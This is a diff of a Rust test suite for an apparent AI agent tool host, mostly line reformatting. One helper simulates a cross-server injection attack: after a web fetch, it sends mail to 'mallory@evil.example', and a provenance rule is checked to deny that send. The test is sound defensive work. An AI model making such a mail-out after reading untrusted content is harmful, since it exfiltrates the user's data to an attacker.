@@ -67,8 +67,15 @@ async fn web_and_mail() -> (Endpoint, Endpoint) {
 }
 
 async fn served(name: &str, tool: Tool) -> Endpoint {
-    let server = Server::builder(name, "1").tool(tool).record_to(MemorySink::new()).build().expect("a server");
-    let http = server.bind(SocketAddr::from((Ipv4Addr::LOCALHOST, 0))).await.expect("bound");
+    let server = Server::builder(name, "1")
+        .tool(tool)
+        .record_to(MemorySink::new())
+        .build()
+        .expect("a server");
+    let http = server
+        .bind(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)))
+        .await
+        .expect("bound");
     let url = http.url();
     tokio::spawn(http.run());
     Endpoint::parse(&url).expect("url")
@@ -97,12 +104,20 @@ impl Approver for Says {
 }
 
 fn of_event(sink: &MemorySink, event: Event) -> Vec<Record> {
-    sink.records().into_iter().filter(|record| record.event == event).collect()
+    sink.records()
+        .into_iter()
+        .filter(|record| record.event == event)
+        .collect()
 }
 
 fn calls(sink: &MemorySink) -> Vec<Record> {
     let mut calls = of_event(sink, Event::Call);
-    calls.retain(|record| record.method.as_ref().is_some_and(|method| method.as_str() == "tools/call"));
+    calls.retain(|record| {
+        record
+            .method
+            .as_ref()
+            .is_some_and(|method| method.as_str() == "tools/call")
+    });
     calls
 }
 
@@ -122,19 +137,34 @@ async fn tools_of_many_servers_are_called_in_one_trajectory() {
     let names: Vec<_> = tools.iter().map(|tool| tool.name.to_string()).collect();
     assert_eq!(names, ["local/echo", "mail/send", "web/fetch"]);
     assert_eq!(tools.openai()[2]["function"]["name"], "web__fetch");
-    assert_eq!(tools.only(["web/*"]).anthropic()[0]["input_schema"]["required"], json!(["url"]));
+    assert_eq!(
+        tools.only(["web/*"]).anthropic()[0]["input_schema"]["required"],
+        json!(["url"])
+    );
     assert_eq!(host.tool_of("local__echo").expect("known").tool(), "echo");
 
-    let task = host.trajectory("Echo one and two, and get https://shop.example").await.expect("begun");
+    let task = host
+        .trajectory("Echo one and two, and get https://shop.example")
+        .await
+        .expect("begun");
     let (one, two, page) = tokio::join!(
         task.call("local/echo", json!({"text": "one"})).send(),
         task.call("local__echo", r#"{"text": "two"}"#).send(),
         task.call("web/fetch", json!({"url": "https://shop.example"})).send(),
     );
-    assert_eq!((said(&one.expect("one")), said(&two.expect("two"))), ("one".to_owned(), "two".to_owned()));
+    assert_eq!(
+        (said(&one.expect("one")), said(&two.expect("two"))),
+        ("one".to_owned(), "two".to_owned())
+    );
     assert!(said(&page.expect("a page")).contains("9 to 5"));
-    assert_eq!(said(&task.call("local/echo", json!({"text": "three"})).await.expect("three")), "three");
-    let answer = task.respond("One, two and three; open from 9 to 5.").await.expect("an answer");
+    assert_eq!(
+        said(&task.call("local/echo", json!({"text": "three"})).await.expect("three")),
+        "three"
+    );
+    let answer = task
+        .respond("One, two and three; open from 9 to 5.")
+        .await
+        .expect("an answer");
     assert_eq!(answer.findings, []);
     let id = task.id().to_owned();
     drop(task);
@@ -144,17 +174,36 @@ async fn tools_of_many_servers_are_called_in_one_trajectory() {
     calls.sort_by_key(|record| record.trajectory.as_ref().and_then(|place| place.flow));
     let places: Vec<_> = calls.iter().filter_map(|record| record.trajectory.clone()).collect();
     assert_eq!(places.len(), 4);
-    assert!(places.iter().all(|place| place.id.as_str() == id && place.answer.is_some()));
-    assert!(places[..3].iter().all(|place| place.parents == [0]), "they ran in parallel");
+    assert!(
+        places
+            .iter()
+            .all(|place| place.id.as_str() == id && place.answer.is_some())
+    );
+    assert!(
+        places[..3].iter().all(|place| place.parents == [0]),
+        "they ran in parallel"
+    );
     let mut answers: Vec<_> = places[..3].iter().filter_map(|place| place.answer).collect();
     answers.sort_unstable();
     assert_eq!(places[3].parents, answers);
     let ends = of_event(&sink, Event::Trajectory);
-    assert_eq!(ends.iter().map(|record| record.outcome).collect::<Vec<_>>(), [Outcome::Completed; 2]);
-    assert_eq!(ends[1].trajectory.as_ref().map(|place| place.parents.clone()), Some(vec![places[3].answer.expect("answered")]));
+    assert_eq!(
+        ends.iter().map(|record| record.outcome).collect::<Vec<_>>(),
+        [Outcome::Completed; 2]
+    );
+    assert_eq!(
+        ends[1].trajectory.as_ref().map(|place| place.parents.clone()),
+        Some(vec![places[3].answer.expect("answered")])
+    );
     let mut sequences: Vec<_> = sink.records().iter().map(|record| record.sequence).collect();
     sequences.sort_unstable();
-    assert!(sequences.iter().enumerate().all(|(at, number)| *number == at as u64 + 1), "{sequences:?}");
+    assert!(
+        sequences
+            .iter()
+            .enumerate()
+            .all(|(at, number)| *number == at as u64 + 1),
+        "{sequences:?}"
+    );
 }
 
 async fn attacked(approver: Option<Says>, overlay: Option<Overlay>) -> (Result<String, HostError>, MemorySink) {
@@ -168,9 +217,16 @@ async fn attacked(approver: Option<Says>, overlay: Option<Overlay>) -> (Result<S
         builder = builder.overlay("web/*", overlay);
     }
     let host = builder.open().await.expect("a host");
-    let task = host.trajectory("When is https://shop.example open?").await.expect("begun");
-    task.call("web/fetch", json!({"url": "https://shop.example"})).await.expect("a page");
-    let sent = task.call("mail/send", json!({"to": "mallory@evil.example", "body": "notes"})).await;
+    let task = host
+        .trajectory("When is https://shop.example open?")
+        .await
+        .expect("begun");
+    task.call("web/fetch", json!({"url": "https://shop.example"}))
+        .await
+        .expect("a page");
+    let sent = task
+        .call("mail/send", json!({"to": "mallory@evil.example", "body": "notes"}))
+        .await;
     task.respond("From 9 to 5.").await.expect("an answer");
     host.close().await;
     (sent.map(|result| said(&result)), sink)
@@ -179,9 +235,18 @@ async fn attacked(approver: Option<Says>, overlay: Option<Overlay>) -> (Result<S
 #[tokio::test]
 async fn what_one_server_says_does_not_steer_another() {
     let (sent, sink) = attacked(None, None).await;
-    assert!(matches!(&sent, Err(HostError::Call(CallError::Denied { rule, .. })) if rule == "provenance.rule_of_two"), "{sent:?}");
+    assert!(
+        matches!(&sent, Err(HostError::Call(CallError::Denied { rule, .. })) if rule == "provenance.rule_of_two"),
+        "{sent:?}"
+    );
     let stopped = calls(&sink).pop().expect("a record");
-    assert_eq!((stopped.outcome, stopped.verdict()), (Outcome::Denied, "ask"));
+    let rules: Vec<_> = stopped
+        .rulings
+        .iter()
+        .map(|ruling| (ruling.finding.rule.as_str(), ruling.verdict))
+        .collect();
+    assert_eq!(rules, [("provenance.rule_of_two", "ask"), ("approval", "deny")]);
+    assert_eq!(stopped.outcome, Outcome::Denied);
     assert!(stopped.trajectory.is_some_and(|place| place.flow.is_none()));
 
     let says = Says::new(Approval::Granted);
@@ -191,7 +256,10 @@ async fn what_one_server_says_does_not_steer_another() {
 
     let says = Says::new(Approval::Refused);
     let (sent, _) = attacked(Some(says.clone()), Some(Overlay::new().trusted())).await;
-    assert!(sent.is_ok() && says.asked().is_empty(), "an operator vouches for the pages");
+    assert!(
+        sent.is_ok() && says.asked().is_empty(),
+        "an operator vouches for the pages"
+    );
 }
 
 #[tokio::test]
@@ -218,11 +286,17 @@ async fn a_server_that_is_silent_or_dead_keeps_nobody_waiting_but_its_own_calls(
     };
     assert_eq!(said(&echoed.expect("a result")), "here");
     let silent = task.call("silent/echo", json!({})).await;
-    assert!(matches!(&silent, Err(HostError::Unavailable { server, .. }) if server == "silent"), "{silent:?}");
+    assert!(
+        matches!(&silent, Err(HostError::Unavailable { server, .. }) if server == "silent"),
+        "{silent:?}"
+    );
     host.settled().await;
     for server in ["silent", "dead", "missing"] {
         let status = host.status(server);
-        assert!(matches!(status, Some(ServerStatus::Failed { attempts: 1, .. })), "{server}: {status:?}");
+        assert!(
+            matches!(status, Some(ServerStatus::Failed { attempts: 1, .. })),
+            "{server}: {status:?}"
+        );
     }
     assert_eq!(host.status("good"), Some(ServerStatus::Ready { tools: 1 }));
     assert!(format!("{:?}", host.status("dead")).contains("a configuration that is missing"));
@@ -235,11 +309,18 @@ async fn a_server_that_is_silent_or_dead_keeps_nobody_waiting_but_its_own_calls(
 #[tokio::test]
 async fn a_server_that_was_lost_comes_back() {
     let (builder, _) = host();
-    let host = builder.server("local", program("crashing")).open().await.expect("a host");
+    let host = builder
+        .server("local", program("crashing"))
+        .open()
+        .await
+        .expect("a host");
     let task = host.trajectory("Crash and go on").await.expect("begun");
     for _ in 0..3 {
         let crashed = task.call("local/crash", json!({})).await;
-        assert!(matches!(crashed, Err(HostError::Call(CallError::Disconnected { .. }))), "{crashed:?}");
+        assert!(
+            matches!(crashed, Err(HostError::Call(CallError::Disconnected { .. }))),
+            "{crashed:?}"
+        );
         let echoed = loop {
             match task.call("local/echo", json!({"text": "back"})).await {
                 Err(HostError::Unavailable { .. }) => tokio::time::sleep(Duration::from_millis(10)).await,
@@ -254,7 +335,12 @@ async fn a_server_that_was_lost_comes_back() {
 #[tokio::test]
 async fn quarantine_is_immediate_and_recorded() {
     let (builder, sink) = host();
-    let host = builder.server("one", program("")).server("two", program("")).open().await.expect("a host");
+    let host = builder
+        .server("one", program(""))
+        .server("two", program(""))
+        .open()
+        .await
+        .expect("a host");
     host.settled().await;
     assert!(matches!(&host.notices()[..], [Notice::SameName { tools }] if tools.len() == 2));
     let task = host.trajectory("Echo").await.expect("begun");
@@ -270,16 +356,30 @@ async fn quarantine_is_immediate_and_recorded() {
     assert_eq!(host.tools().len(), 1);
     host.quarantine("two", "compromised").await.expect("recorded");
     assert!(host.tools().is_empty() && call("two/echo").await.is_err());
-    host.lift_quarantine("one/echo", "a false alarm").await.expect("recorded");
+    host.lift_quarantine("one/echo", "a false alarm")
+        .await
+        .expect("recorded");
     assert!(call("one/echo").await.is_ok() && call("two/echo").await.is_err());
     assert_eq!(host.quarantined().len(), 1);
-    assert!(matches!(host.quarantine("three", "x").await, Err(HostError::UnknownServer { .. })));
+    assert!(matches!(
+        host.quarantine("three", "x").await,
+        Err(HostError::UnknownServer { .. })
+    ));
     let records = of_event(&sink, Event::Quarantine);
     let said: Vec<_> = records
         .iter()
-        .map(|record| format!("{} {}", record.method.clone().unwrap_or("".into()), record.target.clone().unwrap_or("".into())))
+        .map(|record| {
+            format!(
+                "{} {}",
+                record.method.clone().unwrap_or("".into()),
+                record.target.clone().unwrap_or("".into())
+            )
+        })
         .collect();
-    assert_eq!(said, ["quarantine one/echo", "quarantine two", "lift_quarantine one/echo"]);
+    assert_eq!(
+        said,
+        ["quarantine one/echo", "quarantine two", "lift_quarantine one/echo"]
+    );
     host.close().await;
 }
 
@@ -290,14 +390,21 @@ async fn a_trajectory_ends_with_its_answer_and_without_one_that_is_recorded() {
     let answered = host.trajectory("One").await.expect("begun");
     answered.respond("Done.").await.expect("an answer");
     let late = answered.call("local/echo", json!({})).await;
-    assert!(matches!(&late, Err(HostError::Call(CallError::Denied { rule, .. })) if rule == "trajectory.order"), "{late:?}");
+    assert!(
+        matches!(&late, Err(HostError::Call(CallError::Denied { rule, .. })) if rule == "trajectory.order"),
+        "{late:?}"
+    );
     assert!(matches!(answered.respond("Again.").await, Err(HostError::Stopped(_))));
     let abandoned = host.trajectory("Two").await.expect("begun");
     let id = abandoned.id().to_owned();
     let is_of = |record: &Record| record.trajectory.as_ref().is_some_and(|place| place.id.as_str() == id);
     abandon(abandoned);
     let ends = of_event(&sink, Event::Trajectory);
-    let ends: Vec<_> = ends.iter().filter(|record| is_of(record)).map(|record| record.outcome).collect();
+    let ends: Vec<_> = ends
+        .iter()
+        .filter(|record| is_of(record))
+        .map(|record| record.outcome)
+        .collect();
     assert_eq!(ends, [Outcome::Completed, Outcome::Aborted]);
     host.close().await;
 }
@@ -310,13 +417,24 @@ fn abandon(trajectory: Trajectory) {
 async fn names_that_can_not_be_told_apart_are_refused() {
     let open = |names: &[&str]| {
         let (builder, _) = host();
-        let builder = names.iter().fold(builder, |builder, name| builder.server(*name, program("")));
+        let builder = names
+            .iter()
+            .fold(builder, |builder, name| builder.server(*name, program("")));
         async move { builder.open().await.map(drop) }
     };
     for names in [&["files", "files"][..], &["files", "Fi1es"], &["a/b"], &[""]] {
         assert!(matches!(open(names).await, Err(OpenError::Name(_))), "{names:?}");
     }
     let (builder, _) = host();
-    let unplaced = builder.overlay("files/read", Overlay::new().trusted()).server("files", program("")).open().await;
-    assert!(unplaced.expect_err("an overlay for nobody").to_string().contains("files"));
+    let unplaced = builder
+        .overlay("files/read", Overlay::new().trusted())
+        .server("files", program(""))
+        .open()
+        .await;
+    assert!(
+        unplaced
+            .expect_err("an overlay for nobody")
+            .to_string()
+            .contains("files")
+    );
 }
